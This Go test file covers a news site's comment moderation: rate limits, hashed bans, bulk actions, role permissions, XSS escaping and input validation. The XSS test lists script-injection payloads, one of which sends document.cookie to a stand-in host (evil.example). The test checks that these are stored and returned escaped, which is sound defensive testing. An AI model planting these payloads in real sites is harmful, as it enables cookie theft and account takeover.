// TestCommentRateLimits checks the per-client and per-article windows (429
// with Retry-After, nothing stored), that they are shared by two replicas
// on one database, and that no client address is stored as such.
func TestCommentRateLimits(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		cfg := moderation.Config{ClientLimit: 2, ClientWindow: 10 * time.Minute, ArticleLimit: 4, ArticleWindow: time.Minute, MaxLinks: 2}
		e := newCommentsEnv(t, db, cfg)
		replica := cmstest.NewApp(t, db, commentsOptions(cfg))
		_, slug := e.article("المنتخب المضيف يتوج بلقب كأس آسيا", nil)
		_, other := e.article("حفل افتتاح كأس آسيا يبهر الحضور", nil)
		c := comment("أحمد", "ahmad@readers.example", "مبروك")
		want429 := func(res *cmstest.Response, retry int) {
			t.Helper()
			wantError(t, res, http.StatusTooManyRequests, "too_many_requests")
			if got := res.Header.Get("Retry-After"); got != strconv.Itoa(retry) {
				t.Errorf("Retry-After: got %q, want %d", got, retry)
			}
		}
		e.mustPost(slug, "198.51.100.1", c)
		e.mustPost(other, "198.51.100.1", c)
		stored := countComments(t, db)
		want429(e.post(slug, "198.51.100.1", c), 600)
		// The other replica counts the same client in the same window.
		res := replica.Do(cmstest.Request{Method: "POST", Path: commentsPath(other), Body: c, Header: map[string]string{"X-Forwarded-For": "198.51.100.1"}})
		want429(res, 600)
		e.clock.advance(30 * time.Second)
		want429(e.post(slug, "198.51.100.1", c), 570)
		if countComments(t, db) != stored {
			t.Error("a refused comment was stored")
		}

		// The article's window: 4 a minute from everyone.
		e.mustPost(slug, "198.51.100.2", c)
		e.mustPost(slug, "198.51.100.3", c)
		e.mustPost(slug, "198.51.100.4", c)
		want429(e.post(slug, "198.51.100.5", c), 30)
		e.mustPost(other, "198.51.100.5", c) // another article has its own window
		e.clock.advance(30 * time.Second)
		e.mustPost(slug, "198.51.100.5", c)
		want429(e.post(slug, "198.51.100.1", c), 540) // the client's window still runs
		e.clock.advance(9 * time.Minute)
		e.mustPost(slug, "198.51.100.1", c)

		// Counters and comments keep keyed hashes, never the address.
		rows, err := db.SQL().Query("SELECT key FROM rate_counters")
		if err != nil {
			t.Fatal(err)
		}
		var keys int
		for rows.Next() {
			var k string
			if err := rows.Scan(&k); err != nil {
				t.Fatal(err)
			}
			keys++
			if strings.Contains(k, "198.51.100") {
				t.Errorf("rate counter key %q holds a client address", k)
			}
		}
		rows.Close()
		if keys == 0 {
			t.Error("no rate counters stored")
		}
		var leaks int
		if err := db.SQL().QueryRow("SELECT COUNT(*) FROM comments WHERE client_hash LIKE '%198.51.100%' OR email_hash LIKE '%@%' OR client_hash = ''").Scan(&leaks); err != nil || leaks != 0 {
			t.Errorf("comments holding a plain address or no hash: %d (%v)", leaks, err)
		}
	})
}

// TestCommentBans bans by e-mail, by client address and by comment, with
// and without expiry, and lifts bans; only keyed hashes are stored.
func TestCommentBans(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		_, slug := e.article("منسوب نهر الفرات في أدنى مستوياته منذ عقود", nil)
		refused := func(ip, email string) {
			t.Helper()
			res := e.post(slug, ip, comment("قارئ", email, "تعليق"))
			wantError(t, res, http.StatusForbidden, "forbidden")
			if m := res.JSON(t)["error"].(map[string]any)["message"]; m != "your comment could not be accepted" {
				t.Errorf("refusal message: got %q, want the neutral one", m)
			}
		}

		// By e-mail, whatever its case, from any address; forever.
		ban := e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "email", "value": "Troll@Readers.example", "reason": "إساءة"})
		if ban["label"] != "t***@readers.example" || ban["active"] != true || ban["expires_at"] != nil || ban["created_by"] != e.moderator.ID {
			t.Errorf("ban: got %v", ban)
		}
		refused("198.51.100.1", "troll@readers.example")
		refused("198.51.100.2", "TROLL@READERS.EXAMPLE")
		e.mustPost(slug, "198.51.100.1", comment("قارئ", "friend@readers.example", "تعليق"))
		wantError(t, e.moderator.Do("POST", "/bans", map[string]any{"kind": "email", "value": "troll@readers.example"}), http.StatusConflict, "conflict")
		got := e.moderator.Must(200, "GET", "/bans/"+ban["id"].(string), nil)
		if got["label"] != ban["label"] || got["reason"] != "إساءة" {
			t.Errorf("GET ban: got %v", got)
		}

		// By client address, until an expiry: refused until then, not after.
		until := e.clock.now().Add(30 * time.Minute)
		ipBan := e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "client", "value": "203.0.113.50", "expires_at": until})
		if ipBan["label"] != "203.0.113.***" {
			t.Errorf("client ban label: got %v", ipBan["label"])
		}
		refused("203.0.113.50", "someone@readers.example")
		e.mustPost(slug, "203.0.113.51", comment("قارئ", "someone@readers.example", "من عنوان آخر"))
		e.clock.advance(29 * time.Minute)
		refused("203.0.113.50", "someone@readers.example")
		e.clock.advance(2 * time.Minute)
		e.mustPost(slug, "203.0.113.50", comment("قارئ", "someone@readers.example", "بعد انتهاء الحظر"))
		var active []string
		for _, b := range decodeList(t, mustList(t, e.moderator, "/bans")) {
			if b["active"] == true {
				active = append(active, b["id"].(string))
			}
		}
		if fmt.Sprint(active) != fmt.Sprint([]string{ban["id"].(string)}) {
			t.Errorf("active bans: got %v, want only the e-mail ban", active)
		}
		// An expired ban can be made again.
		e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "client", "value": "203.0.113.50"})
		refused("203.0.113.50", "someone@readers.example")

		// IPv6: the /64 network is one client.
		e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "client", "value": "2001:db8:1:2::1"})
		refused("2001:db8:1:2::99", "v6@readers.example")
		e.mustPost(slug, "2001:db8:1:3::1", comment("قارئ", "v6@readers.example", "شبكة أخرى"))

		// By comment: the commenter's stored hashes, e-mail or client.
		c1 := e.mustPost(slug, "198.51.100.30", comment("مزعج", "pest@readers.example", "تعليق مزعج"))
		byClient := e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "client", "comment_id": c1})
		if byClient["comment_id"] != c1 || !strings.Contains(byClient["label"].(string), "مزعج") {
			t.Errorf("ban by comment: got %v", byClient)
		}
		refused("198.51.100.30", "other@readers.example")
		e.mustPost(slug, "198.51.100.31", comment("مزعج", "pest@readers.example", "من عنوان آخر"))
		e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "email", "comment_id": c1})
		refused("198.51.100.31", "pest@readers.example")

		// Lifting a ban lets the commenter in again.
		e.moderator.Must(204, "DELETE", "/bans/"+byClient["id"].(string), nil)
		e.mustPost(slug, "198.51.100.30", comment("قارئ", "other@readers.example", "بعد رفع الحظر"))
		wantError(t, e.moderator.Do("DELETE", "/bans/"+byClient["id"].(string), nil), http.StatusNotFound, "not_found")

		// Refused bans.
		for name, body := range map[string]map[string]any{
			"expiry in the past":  {"kind": "email", "value": "x@readers.example", "expires_at": e.clock.now().Add(-time.Minute)},
			"expiry now":          {"kind": "email", "value": "x@readers.example", "expires_at": e.clock.now()},
			"not an e-mail":       {"kind": "email", "value": "not an e-mail"},
			"not an address":      {"kind": "client", "value": "example.com"},
			"unknown kind":        {"kind": "ip", "value": "203.0.113.9"},
			"no kind":             {"value": "x@readers.example"},
			"value and comment":   {"kind": "email", "value": "x@readers.example", "comment_id": c1},
			"neither":             {"kind": "email"},
			"reason too long":     {"kind": "email", "value": "x@readers.example", "reason": strings.Repeat("س", 501)},
			"control in a reason": {"kind": "email", "value": "x@readers.example", "reason": "a\u0007b"},
		} {
			t.Run(name, func(t *testing.T) {
				wantError(t, e.moderator.Do("POST", "/bans", body), http.StatusUnprocessableEntity, "invalid")
			})
		}
		wantError(t, e.moderator.Do("POST", "/bans", map[string]any{"kind": "email", "comment_id": "no-such-comment"}), http.StatusNotFound, "not_found")

		// Only hashes and masked labels are stored.
		var plain int
		if err := db.SQL().QueryRow("SELECT COUNT(*) FROM bans WHERE value_hash LIKE '%@%' OR value_hash LIKE '%.%' OR label LIKE '%troll%' OR label LIKE '%203.0.113.50%'").Scan(&plain); err != nil || plain != 0 {
			t.Errorf("bans holding a plain value: %d (%v)", plain, err)
		}
		if a := auditActions(t, e.admin, "ban"); len(a) != 7 || a[0] != "ban.delete" {
			t.Errorf("audit of bans: got %v, want 6 creations and a deletion", a)
		}
	})
}

// TestBanClearsPendingComments checks that a ban takes the banned
// commenter's waiting comments out of the queue in the same step: rejected
// (or marked spam), recorded and audited like a moderator's decision, and
// counted in the answer; comments of others, and the commenter's comments
// already decided, approved ones above all, stay as they are, and readers
// see nothing change.
func TestBanClearsPendingComments(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		changes := watchChanges(db)
		_, slug := e.article("انقطاع الكهرباء يعم مدن الساحل", nil)
		_, other := e.article("وزارة الطاقة تعد بحلول خلال أسبوع", nil)
		troll := func(body string) map[string]any { return comment("متصيد", "Troll@Readers.example", body) }
		post := func(slug, ip, body string) string {
			t.Helper()
			e.clock.advance(time.Second)
			return e.mustPost(slug, ip, troll(body))
		}
		friend := e.mustPost(slug, "198.51.100.1", comment("صديق", "friend@readers.example", "تعليق"))
		e.decide(friend, "approve")
		approved := post(slug, "198.51.100.66", "تعليق مقبول")
		e.decide(approved, "approve")
		rejected := post(slug, "198.51.100.66", "تعليق مرفوض")
		e.moderator.Must(200, "POST", "/comments/"+rejected+"/reject", map[string]any{"note": "خارج الموضوع"})
		// Waiting: on this article, as a reply, on another article, from
		// another address (the e-mail is the same: the e-mail ban matches).
		p1 := post(slug, "198.51.100.66", "تعليق أول")
		r := troll("رد")
		r["parent_id"] = friend
		e.clock.advance(time.Second)
		p2 := e.post(slug, "198.51.100.66", r).JSON(t)["id"].(string)
		p3 := post(other, "198.51.100.66", "في مقال آخر")
		p4 := post(other, "203.0.113.7", "من عنوان آخر")
		// Someone else from the troll's address, and someone else entirely.
		e.clock.advance(time.Second)
		neighbour := e.mustPost(slug, "198.51.100.66", comment("جار", "neighbour@readers.example", "من العنوان نفسه"))
		bystander := e.mustPost(other, "198.51.100.2", comment("قارئ", "reader@readers.example", "تعليق عادي"))
		thBefore, _ := e.thread(slug, "")
		changes.take()

		ban := e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "email", "value": "troll@readers.example", "reason": "تصيد متكرر"})
		if ban["cleared_comments"] != 4.0 {
			t.Errorf("cleared_comments: got %v, want 4", ban["cleared_comments"])
		}
		status := func(id string) map[string]any { return e.moderator.Must(200, "GET", "/comments/"+id, nil) }
		for _, id := range []string{p1, p2, p3, p4} {
			c := status(id)
			if c["status"] != "rejected" || c["moderated_by"] != e.moderator.ID || c["moderated_at"] == nil || c["moderation_note"] != "تصيد متكرر" {
				t.Errorf("the troll's waiting comment %s: got %v, want rejected by the moderator with the ban's reason as the note", id, c)
			}
		}
		for id, want := range map[string]string{approved: "approved", rejected: "rejected", neighbour: "pending", bystander: "pending"} {
			if c := status(id); c["status"] != want {
				t.Errorf("comment %s: status %v, want %s", id, c["status"], want)
			}
		}
		if c := status(rejected); c["moderation_note"] != "خارج الموضوع" {
			t.Errorf("a comment rejected before the ban: note %v, want its own note kept", c["moderation_note"])
		}
		var queue []string
		for _, c := range decodeList(t, mustList(t, e.moderator, "/comments")) {
			queue = append(queue, c["id"].(string))
		}
		if fmt.Sprint(queue) != fmt.Sprint([]string{neighbour, bystander}) {
			t.Errorf("queue after the ban: got %v, want only the others' comments %v", queue, []string{neighbour, bystander})
		}
		// Readers see what they saw: nothing approved changed, no page dropped.
		if th, _ := e.thread(slug, ""); fmt.Sprint(th) != fmt.Sprint(thBefore) {
			t.Errorf("thread after the ban: got %+v, want %+v", th, thBefore)
		}
		for _, k := range changes.take() {
			if strings.HasPrefix(k, "article:") {
				t.Errorf("the ban dropped the readers' pages of %s; only pending comments changed", k)
			}
		}
		// Audited one by one, like a moderator's decision, naming the ban.
		audited := map[string]bool{}
		for _, ev := range decodeList(t, mustList(t, e.admin, "/audit?limit=100&entity_type=comment&action=comment.reject")) {
			d, _ := ev["details"].(map[string]any)
			if d["ban_id"] == ban["id"] && d["from"] == "pending" && d["to"] == "rejected" && ev["actor_id"] == e.moderator.ID {
				audited[ev["entity_id"].(string)] = true
			}
		}
		if len(audited) != 4 || !audited[p1] || !audited[p2] || !audited[p3] || !audited[p4] {
			t.Errorf("audited rejections by the ban: got %v, want the 4 waiting comments", audited)
		}
		// The count belongs to the answer of the ban, not to the ban.
		if got := e.moderator.Must(200, "GET", "/bans/"+ban["id"].(string), nil); got["cleared_comments"] != nil {
			t.Errorf("GET ban: cleared_comments %v, want it absent", got["cleared_comments"])
		}

		// A ban of the address for spam: the neighbour's waiting comment
		// (the troll's are decided already) is marked spam.
		ipBan := e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "client", "value": "198.51.100.66", "spam": true})
		if ipBan["cleared_comments"] != 1.0 {
			t.Errorf("client ban: cleared_comments %v, want 1", ipBan["cleared_comments"])
		}
		if c := status(neighbour); c["status"] != "spam" || c["moderation_note"] != "" {
			t.Errorf("the neighbour's comment after the client ban for spam: got %v, want spam without a note", c)
		}
		if c := status(p4); c["status"] != "rejected" {
			t.Errorf("a comment decided before: status %v, want rejected", c["status"])
		}
		// A ban by a comment clears that comment too; nothing to clear is 0.
		waiting := e.mustPost(other, "198.51.100.3", comment("آخر", "another@readers.example", "تعليق"))
		if b := e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "email", "comment_id": waiting}); b["cleared_comments"] != 1.0 || status(waiting)["status"] != "rejected" {
			t.Errorf("ban by a waiting comment: cleared_comments %v, comment %v, want 1 and rejected", b["cleared_comments"], status(waiting)["status"])
		}
		if b := e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "email", "value": "nobody@readers.example"}); b["cleared_comments"] != 0.0 {
			t.Errorf("ban of someone without comments: cleared_comments %v, want 0", b["cleared_comments"])
		}
		// spam must be a boolean; a refused ban clears nothing.
		res := e.moderator.Do("POST", "/bans", map[string]any{"kind": "email", "value": "reader@readers.example", "spam": "yes"})
		if res.Status < 400 || res.Status >= 500 {
			t.Errorf("spam: \"yes\": got %d %s, want a 4xx", res.Status, res.Body)
		}
		if c := status(bystander); c["status"] != "pending" {
			t.Errorf("the bystander's comment: status %v, want pending", c["status"])
		}
	})
}

// TestCommentHashKeySharedByReplicas checks that two servers on one
// database hash alike: the key is made once, in the settings table.
func TestCommentHashKeySharedByReplicas(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		replica := cmstest.NewApp(t, db, commentsOptions(roomy))
		_, slug := e.article("الذهب يستقر قرب أعلى مستوياته هذا العام", nil)
		// The ban is hashed by one replica...
		e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "email", "value": "banned@readers.example"})
		// ...and the comment by the other.
		res := replica.Do(cmstest.Request{Method: "POST", Path: commentsPath(slug), Body: comment("قارئ", "banned@readers.example", "تعليق"),
			Header: map[string]string{"X-Forwarded-For": "198.51.100.1"}})
		wantError(t, res, http.StatusForbidden, "forbidden")
		var n int
		if err := db.SQL().QueryRow("SELECT COUNT(*) FROM settings WHERE key = 'comment_hash_key'").Scan(&n); err != nil || n != 1 {
			t.Errorf("settings rows of the key: %d (%v), want 1", n, err)
		}
	})
}

// TestCommentBulkModeration acts on many comments at once: one result per
// id, in order; unknown ids fail alone; bad requests change nothing.
func TestCommentBulkModeration(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		_, slug := e.article("خطة حكومية لترشيد استهلاك المياه في المدن", nil)
		var c []string
		for i := range 6 {
			c = append(c, e.mustPost(slug, "198.51.100.1", comment("قارئ "+strconv.Itoa(i), "r@readers.example", "تعليق "+strconv.Itoa(i))))
		}
		type result struct {
			ID     string `json:"id"`
			OK     bool   `json:"ok"`
			Status string `json:"status"`
			Error  *struct {
				Code string `json:"code"`
			} `json:"error"`
		}
		bulk := func(body map[string]any) (out struct {
			Results   []result `json:"results"`
			Succeeded int      `json:"succeeded"`
			Failed    int      `json:"failed"`
		}) {
			t.Helper()
			res := e.moderator.Do("POST", "/comments/bulk", body)
			if res.Status != http.StatusOK {
				t.Fatalf("bulk %v: got %d %s", body["action"], res.Status, res.Body)
			}
			if err := json.Unmarshal(res.Body, &out); err != nil {
				t.Fatal(err)
			}
			return out
		}
		out := bulk(map[string]any{"ids": []string{c[0], "no-such-comment", c[1], c[2]}, "action": "approve"})
		if out.Succeeded != 3 || out.Failed != 1 || len(out.Results) != 4 || out.Results[1].OK || out.Results[1].Error == nil ||
			out.Results[1].Error.Code != "not_found" || out.Results[0].Status != "approved" || out.Results[3].ID != c[2] {
			t.Fatalf("bulk approve: got %+v", out)
		}
		if th, _ := e.thread(slug, ""); th.ApprovedCount != 3 {
			t.Errorf("after bulk approve: count %d, want 3", th.ApprovedCount)
		}
		out = bulk(map[string]any{"ids": []string{c[0], c[3]}, "action": "spam"})
		if out.Succeeded != 2 || out.Results[0].Status != "spam" {
			t.Errorf("bulk spam: got %+v", out)
		}
		bulk(map[string]any{"ids": []string{c[4]}, "action": "reject", "note": "خارج الموضوع"})
		if got := e.moderator.Must(200, "GET", "/comments/"+c[4], nil); got["status"] != "rejected" || got["moderation_note"] != "خارج الموضوع" {
			t.Errorf("after bulk reject: %v", got)
		}
		out = bulk(map[string]any{"ids": []string{c[5], c[1]}, "action": "delete"})
		if out.Succeeded != 2 || out.Results[0].Status != "" {
			t.Errorf("bulk delete: got %+v", out)
		}
		wantError(t, e.moderator.Do("GET", "/comments/"+c[5], nil), http.StatusNotFound, "not_found")
		if th, _ := e.thread(slug, ""); th.ApprovedCount != 1 || len(th.Data) != 1 || th.Data[0].ID != c[2] {
			t.Errorf("after bulk actions: %+v, want only the third comment", th)
		}
		// Approving what is approved succeeds without a second record.
		bulk(map[string]any{"ids": []string{c[2]}, "action": "approve"})
		if a := auditActions(t, e.admin, "comment"); fmt.Sprint(a) != "[comment.delete comment.delete comment.reject comment.spam comment.spam comment.approve comment.approve comment.approve]" {
			t.Errorf("audit: got %v", a)
		}

		// Bad requests change nothing.
		before := mustList(t, e.moderator, "/comments?status=all&limit=100")
		many := make([]string, moderation.MaxBulk+1)
		for i := range many {
			many[i] = "id-" + strconv.Itoa(i)
		}
		for name, body := range map[string]map[string]any{
			"no ids":         {"ids": []string{}, "action": "approve"},
			"ids missing":    {"action": "approve"},
			"too many":       {"ids": many, "action": "approve"},
			"repeated":       {"ids": []string{c[2], c[2]}, "action": "spam"},
			"empty id":       {"ids": []string{""}, "action": "spam"},
			"unknown action": {"ids": []string{c[2]}, "action": "publish"},
			"no action":      {"ids": []string{c[2]}},
			"note too long":  {"ids": []string{c[2]}, "action": "reject", "note": strings.Repeat("ن", 2001)},
			"note on delete": {"ids": []string{c[2]}, "action": "delete", "note": "x"},
		} {
			t.Run(name, func(t *testing.T) {
				wantError(t, e.moderator.Do("POST", "/comments/bulk", body), http.StatusUnprocessableEntity, "invalid")
			})
		}
		if after := mustList(t, e.moderator, "/comments?status=all&limit=100"); !bytes.Equal(before, after) {
			t.Errorf("refused bulk requests changed the comments:\n%s\n%s", before, after)
		}
	})
}

// TestModerationPermissions runs every moderation action as every role and
// some combinations: moderators and admins may, writers and editors may not
// unless they also hold one of those roles. A refusal changes nothing.
// Moderators cannot touch articles beyond reading them.
func TestModerationPermissions(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		_, slug := e.article("وزير الخارجية يبدأ جولة إقليمية تشمل أنقرة وطهران", nil)
		roles := map[string][]string{
			"writer": {"writer"}, "editor": {"editor"}, "moderator": {"moderator"}, "admin": {"admin"},
			"writer+moderator": {"writer", "moderator"}, "editor+moderator": {"editor", "moderator"}, "writer+editor": {"writer", "editor"},
		}
		may := map[string]bool{"moderator": true, "admin": true, "writer+moderator": true, "editor+moderator": true}
		clients := map[string]*cmstest.Client{}
		for name, r := range roles {
			clients[name] = newClient(t, e.app, r...)
		}
		seq := 0
		fresh := func() string {
			seq++
			return e.mustPost(slug, "198.51.100.1", comment("قارئ", "r"+strconv.Itoa(seq)+"@readers.example", "تعليق "+strconv.Itoa(seq)))
		}
		freshBan := func() string {
			seq++
			return e.moderator.Must(201, "POST", "/bans", map[string]any{"kind": "email", "value": "b" + strconv.Itoa(seq) + "@readers.example"})["id"].(string)
		}
		actions := []struct {
			name, method string
			path         func() string
			body         func() any
			ok           int
		}{
			{"read the queue", "GET", func() string { return "/comments" }, nil, 200},
			{"read a comment", "GET", func() string { return "/comments/" + fresh() }, nil, 200},
			{"approve", "POST", func() string { return "/comments/" + fresh() + "/approve" }, nil, 200},
			{"reject", "POST", func() string { return "/comments/" + fresh() + "/reject" }, func() any { return map[string]any{"note": "خارج الموضوع"} }, 200},
			{"spam", "POST", func() string { return "/comments/" + fresh() + "/spam" }, nil, 200},
			{"delete", "DELETE", func() string { return "/comments/" + fresh() }, nil, 204},
			{"bulk", "POST", func() string { return "/comments/bulk" }, func() any { return map[string]any{"ids": []string{fresh()}, "action": "approve"} }, 200},
			{"list bans", "GET", func() string { return "/bans" }, nil, 200},
			{"ban", "POST", func() string { return "/bans" }, func() any {
				seq++
				return map[string]any{"kind": "email", "value": "x" + strconv.Itoa(seq) + "@readers.example"}
			}, 201},
			{"read a ban", "GET", func() string { return "/bans/" + freshBan() }, nil, 200},
			{"unban", "DELETE", func() string { return "/bans/" + freshBan() }, nil, 204},
		}
		for _, act := range actions {
			for role, c := range clients {
				t.Run(role+" "+act.name, func(t *testing.T) {
					before := mustList(t, e.moderator, "/comments?status=all&limit=100")
					bans := mustList(t, e.moderator, "/bans?limit=100")
					var body any
					if act.body != nil {
						body = act.body()
					}
					path := act.path()
					// The fixtures made by the path and body are not what is checked.
					before = mustList(t, e.moderator, "/comments?status=all&limit=100")
					bans = mustList(t, e.moderator, "/bans?limit=100")
					res := c.Do(act.method, path, body)
					if !may[role] {
						wantError(t, res, http.StatusForbidden, "forbidden")
						if after := mustList(t, e.moderator, "/comments?status=all&limit=100"); !bytes.Equal(before, after) {
							t.Errorf("a refused %s changed the comments", act.name)
						}
						if after := mustList(t, e.moderator, "/bans?limit=100"); !bytes.Equal(bans, after) {
							t.Errorf("a refused %s changed the bans", act.name)
						}
						return
					}
					if res.Status != act.ok {
						t.Fatalf("got %d, want %d: %s", res.Status, act.ok, res.Body)
					}
				})
			}
		}

		// Moderators read articles and do nothing else with them.
		mod := clients["moderator"]
		art := e.editor.Must(201, "POST", "/articles", map[string]any{"headline": "مسودة للمحرر", "language": "ar", "body": arabicBody})
		id := art["id"].(string)
		mod.Must(200, "GET", "/articles/"+id, nil)
		wantError(t, mod.Do("POST", "/articles", map[string]any{"headline": "مقال مشرف", "language": "ar"}), http.StatusForbidden, "forbidden")
		wantError(t, mod.Do("PATCH", "/articles/"+id, map[string]any{"headline": "تعديل"}, cmstest.ETag(art)), http.StatusForbidden, "forbidden")
		for _, action := range []string{"submit", "publish", "archive"} {
			wantError(t, mod.Do("POST", "/articles/"+id+"/"+action, nil), http.StatusForbidden, "forbidden")
		}
		wantError(t, mod.Do("DELETE", "/articles/"+id, nil), http.StatusForbidden, "forbidden")
	})
}

// TestCommentXSS posts script and markup in the name and the body: they
// are stored and returned as the same text, in JSON that carries no raw
// angle bracket, to readers and to moderators.
func TestCommentXSS(t *testing.T) {
	payloads := []string{
		`<script>alert(1)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`<svg/onload=alert('xss')>`,
		`javascript:alert(document.cookie)`,
		`</textarea><script>fetch('//evil.example/'+document.cookie)</script>`,
		`{{constructor.constructor('alert(1)')()}}`,
		`<a href="javascript:alert(1)">انقر هنا</a> &amp; &lt;b&gt;`,
		"<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>\n<b>سطر ثان</b>",
	}
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		_, slug := e.article("قوافل المساعدات تعبر المعابر للمرة الأولى منذ أشهر", nil)
		var posted []string
		for i, p := range payloads {
			name, _, _ := strings.Cut(p, "\n") // a name is one line
			if len([]rune(name)) > moderation.MaxNameLength {
				name = string([]rune(name)[:moderation.MaxNameLength])
			}
			id := e.mustPost(slug, "198.51.100.1", comment(name, "x"+strconv.Itoa(i)+"@readers.example", p))
			e.decide(id, "approve")
			posted = append(posted, id)
		}
		th, res := e.thread(slug, "limit=100")
		if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") || res.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("headers: Content-Type %q, X-Content-Type-Options %q", ct, res.Header.Get("X-Content-Type-Options"))
		}
		if bytes.ContainsAny(res.Body, "<>") {
			t.Errorf("the thread's JSON carries a raw angle bracket: %s", res.Body)
		}
		if len(th.Data) != len(payloads) {
			t.Fatalf("thread: got %d comments, want %d", len(th.Data), len(payloads))
		}
		for i, p := range payloads {
			c := th.Data[i]
			if c.Body != p || !strings.HasPrefix(p, c.AuthorName) || c.AuthorName == "" {
				t.Errorf("payload %d: got name %q body %q, want the same text back", i, c.AuthorName, c.Body)
			}
		}
		for i, id := range posted {
			res := e.moderator.Do("GET", "/comments/"+id, nil)
			if bytes.ContainsAny(res.Body, "<>") {
				t.Errorf("the admin JSON carries a raw angle bracket: %s", res.Body)
			}
			if got := res.JSON(t)["body"]; got != payloads[i] {
				t.Errorf("admin body %d: got %q, want %q", i, got, payloads[i])
			}
		}
	})
}

// TestCommentSubmitBadInput sends malformed and invalid comments to a live
// article: each is a 4xx JSON error and nothing is stored; limits hold to
// the character.
func TestCommentSubmitBadInput(t *testing.T) {
	cmstest.EachDB(t, func(t *testing.T, db *store.DB) {
		e := newCommentsEnv(t, db, roomy)
		_, slug := e.article("افتتاح أكبر محطة للطاقة الشمسية في المنطقة", nil)
		ok := func() map[string]any { return comment("أحمد", "ahmad@readers.example", "تعليق") }
		with := func(k string, v any) map[string]any {
			m := ok()
			if v == nil {
				delete(m, k)
			} else {
				m[k] = v
			}
			return m
		}
		send := func(body any, ctype string) *cmstest.Response {
			req := cmstest.Request{Method: "POST", Path: commentsPath(slug), Body: body, Header: map[string]string{"X-Forwarded-For": "198.51.100.1"}}
			if ctype != "" {
				req.Header["Content-Type"] = ctype
			}
			return e.app.Do(req)
		}
		cases := []struct {
			name   string
			body   any
			ctype  string
			status int
			field  string
		}{
			{"malformed JSON", `{"author_name":`, "", 400, ""},
			{"not an object", `[{"author_name":"a"}]`, "", 400, ""},
			{"unknown field", with("zzz", 1), "", 400, "zzz"},
			{"name not a string", with("author_name", 1), "", 422, "author_name"},
			{"body an array", with("body", []string{"a"}), "", 422, "body"},
			{"parent_id a number", with("parent_id", 5), "", 422, "parent_id"},
			{"invalid UTF-8", []byte("{\"author_name\":\"\xff\xfe\",\"author_email\":\"a@readers.example\",\"body\":\"x\"}"), "", 400, ""},
			{"text/plain", `{}`, "text/plain", 415, ""},
			{"oversize", with("body", strings.Repeat("a", 2<<20)), "", 413, ""},
			{"empty object", `{}`, "", 422, "author_name"},
			{"no name", with("author_name", nil), "", 422, "author_name"},
			{"blank name", with("author_name", "   "), "", 422, "author_name"},
			{"name too long", with("author_name", strings.Repeat("ن", 81)), "", 422, "author_name"},
			{"name on two lines", with("author_name", "a\nb"), "", 422, "author_name"},
			{"tab in the name", with("author_name", "a\tb"), "", 422, "author_name"},
			{"NUL in the name", with("author_name", "a\u0000b"), "", 422, "author_name"},
			{"bell in the body", with("body", "a\u0007b"), "", 422, "body"},
			{"NUL in the body", with("body", "a\u0000b"), "", 422, "body"},
			{"C1 control in the body", with("body", "a\u0085b"), "", 422, "body"},
			{"escape in the body", with("body", "\u001b[31mred"), "", 422, "body"},
			{"no body", with("body", nil), "", 422, "body"},
			{"blank body", with("body", " \n\t "), "", 422, "body"},
			{"body too long", with("body", strings.Repeat("ب", 5001)), "", 422, "body"},
			{"no e-mail", with("author_email", nil), "", 422, "author_email"},
			{"not an e-mail", with("author_email", "not-an-email"), "", 422, "author_email"},
			{"e-mail without a dotted domain", with("author_email", "a@b"), "", 422, "author_email"},
			{"e-mail with a name", with("author_email", "Ahmad <a@readers.example>"), "", 422, "author_email"},
			{"e-mail with a space", with("author_email", "a b@readers.example"), "", 422, "author_email"},
			{"e-mail too long", with("author_email", strings.Repeat("a", 60)+"@"+strings.Repeat("b", 200)+".example"), "", 422, "author_email"},
			{"empty parent_id", with("parent_id", ""), "", 422, "parent_id"},
		}
		before := countComments(t, db)
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				res := send(tc.body, tc.ctype)
				if res.Status != tc.status {
					t.Fatalf("got %d, want %d: %s", res.Status, tc.status, res.Body)
				}
				e := res.JSON(t)["error"].(map[string]any)
				if e["code"] == "" || e["message"] == "" {
					t.Errorf("error body: %s", res.Body)
				}
				if tc.field != "" {
					if f, _ := e["fields"].(map[string]any); f[tc.field] == nil {
						t.Errorf("error fields: got %v, want %s", e["fields"], tc.field)
					}
				}
			})
		}
		// The honeypot: refused with the neutral message, naming no field.
		res := send(with("website", "http://bot.example"), "")
		wantError(t, res, http.StatusUnprocessableEntity, "invalid")
		if e := res.JSON(t)["error"].(map[string]any); e["message"] != "your comment could not be accepted" || e["fields"] != nil {
			t.Errorf("honeypot answer: %s", res.Body)
		}
		if n := countComments(t, db); n != before {
			t.Fatalf("bad input stored %d comments", n-before)
		}

		// The limits themselves are accepted; line breaks and tabs are text,
		// a carriage return is a line break.
		for _, c := range []map[string]any{
			with("author_name", strings.Repeat("ن", 80)),
			with("body", strings.Repeat("ب", 5000)),
			with("body", "سطر أول\r\nسطر\tثان\rسطر ثالث"),
			with("website", ""),
		} {
			e.mustPost(slug, "198.51.100.1", c)
		}
		var body string
